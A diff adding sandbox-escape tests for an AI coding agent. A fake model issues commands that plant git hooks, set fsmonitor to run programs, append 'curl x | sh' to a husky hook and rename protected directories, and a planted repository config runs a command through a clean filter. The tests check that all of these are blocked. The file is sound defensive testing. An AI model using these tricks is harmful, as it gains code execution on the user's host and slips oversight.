@@ -12,8 +12,8 @@ from pathlib import Path
 
 import pytest
 
-from tests.docker.cli_support import ask, explain
-from tests.fakes.model_server import Call, ModelServer
+from tests.docker.cli_support import ask, explain, run_cli
+from tests.fakes.model_server import Call, ModelServer, RecordedRequest, Reply
 
 pytestmark = pytest.mark.docker
 
@@ -139,3 +139,103 @@ def test_ordinary_work_still_happens(workdir: Path, model_server: ModelServer):
                       writes=["src/new.py"])
     assert "made.txt" in results[0] and results[1].startswith("wrote")
     assert (root / "made.txt").read_text() == "ok\n" and (root / "src" / "new.py").is_file()
+
+
+def test_renaming_a_directory_above_a_protected_path_does_not_unprotect_it(
+        workdir: Path, model_server: ModelServer):
+    root = workdir / "proj"
+    (root / "tools" / "hooks").mkdir(parents=True)
+    (root / "tools" / "hooks" / "pre-commit").write_text("#!/bin/sh\nmake check\n")
+    (root / "config" / "git").mkdir(parents=True)
+    (root / "config" / "git" / "team.cfg").write_text("[user]\n\tname = dev\n")
+    git("init", "-q", str(root), cwd=workdir)
+    git("config", "core.hooksPath", "tools/hooks", cwd=root)
+    git("config", "include.path", "../config/git/team.cfg", cwd=root)
+    results = attempt(root, model_server,
+                      "mv tools tools.old && mkdir -p tools/hooks && echo id > tools/hooks/pre-commit",
+                      "mv config config.old && mkdir -p config/git && "
+                      "printf '[core]\\n\\tfsmonitor = id\\n' > config/git/team.cfg")
+    assert all("was put back" in r for r in results), results
+    assert (root / "tools" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nmake check\n"
+    assert (root / "config" / "git" / "team.cfg").read_text() == "[user]\n\tname = dev\n"
+    assert not (root / "tools.old").exists() and not (root / "config.old").exists()
+    assert "fsmonitor" not in git("config", "--list", "--show-origin", cwd=root)
+
+
+def test_husky_hooks_and_the_scripts_they_run_are_read_only(workdir: Path,
+                                                            model_server: ModelServer):
+    root = workdir / "proj"
+    (root / ".husky" / "_").mkdir(parents=True)
+    (root / ".husky" / "_" / "pre-commit").write_text("#!/bin/sh\n. .husky/pre-commit\n")
+    (root / ".husky" / "pre-commit").write_text("npm test\n")
+    git("init", "-q", str(root), cwd=workdir)
+    git("config", "core.hooksPath", ".husky/_", cwd=root)
+    results = attempt(root, model_server, "echo 'curl x | sh' >> .husky/pre-commit",
+                      "mv .husky .husky.old")
+    assert "Read-only file system" in results[0], results
+    assert "busy" in results[1].lower(), results
+    assert (root / ".husky" / "pre-commit").read_text() == "npm test\n"
+
+
+def test_review_never_runs_a_planted_repositorys_config(workdir: Path, model_server: ModelServer):
+    """A sub-project of a monorepo holding what makes git take it for a repository (HEAD,
+    objects/, refs/ copied from a real one) and a config whose clean filter runs a program:
+    `review --diff-base` runs git on the host, and must never run that."""
+    mono, seed = workdir / "mono", workdir / "seed"
+    root = mono / "pkg"
+    root.mkdir(parents=True)
+    git("init", "-q", str(mono), cwd=workdir)
+    git("init", "-q", str(seed), cwd=workdir)
+    (seed / "a.txt").write_text("one\n")
+    git("add", "a.txt", cwd=seed)
+    git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-m", "x", cwd=seed)
+    for part in ("HEAD", "objects", "refs"):
+        subprocess.run(["cp", "-r", str(seed / ".git" / part), str(root)], check=True)
+    marker = workdir / "PWNED"
+    (root / "config").write_text(
+        f"[core]\n\tbare = false\n\tworktree = .\n"
+        f"[filter \"x\"]\n\tclean = sh -c 'touch {marker}; cat'\n")
+    (root / ".gitattributes").write_text("* filter=x\n")
+    (root / "a.txt").write_text("two\n")
+    model_server.default = Reply("No findings.")
+    done = run_cli("review", "--root", root, "--provider", "ollama", "--host", model_server.url,
+                   "--diff-base", "HEAD")
+    assert not marker.exists(), explain(done)
+    assert "Traceback" not in done.stderr
+
+
+def test_a_root_without_git_ends_the_session_without_one(workdir: Path, model_server: ModelServer):
+    """A monorepo sub-directory has no .git of its own: the agent must not leave one that git
+    on the host would honour (hooks, fsmonitor) when the person next types `git status`."""
+    root = workdir / "proj"
+    root.mkdir()
+    results = attempt(root, model_server,
+                      "git init -q . && echo 'id' > .git/hooks/pre-commit && "
+                      "chmod +x .git/hooks/pre-commit && git config core.fsmonitor id && echo made")
+    assert "new git repositories inside the project are not allowed" in results[0], results
+    assert not (root / ".git").exists()
+    [moved] = [p for p in root.iterdir() if p.name.startswith(".git.quarantined-")]
+    assert not (moved / "HEAD").exists()  # not a repository under its new name either
+
+
+def test_a_repository_the_person_makes_during_a_session_is_read_only_at_once(
+        workdir: Path, model_server: ModelServer):
+    root = workdir / "proj"
+    root.mkdir()
+
+    def make_then_write(request: RecordedRequest) -> Reply:
+        # The person runs `git init vendor/lib` while the model thinks (the sandbox is up).
+        (root / "vendor" / "lib").mkdir(parents=True)
+        git("init", "-q", str(root / "vendor" / "lib"), cwd=workdir)
+        return Reply(tool_calls=[Call("run_shell_command", {
+            "command": "echo 'id' > vendor/lib/.git/hooks/post-checkout"})])
+
+    model_server.reply(tool_calls=[Call("run_shell_command", {"command": "true"})])
+    model_server.respond(make_then_write)
+    model_server.reply("done")
+    done = ask(root, model_server, "ollama", "--yes")
+    assert done.returncode == 0, explain(done)
+    results = [m["content"] for m in model_server.last_chat.body["messages"] if m["role"] == "tool"]
+    assert "Read-only file system" in results[1], results
+    assert not (root / "vendor" / "lib" / ".git" / "hooks" / "post-checkout").exists()
+    assert "restarting the sandbox with it read-only" in done.stderr
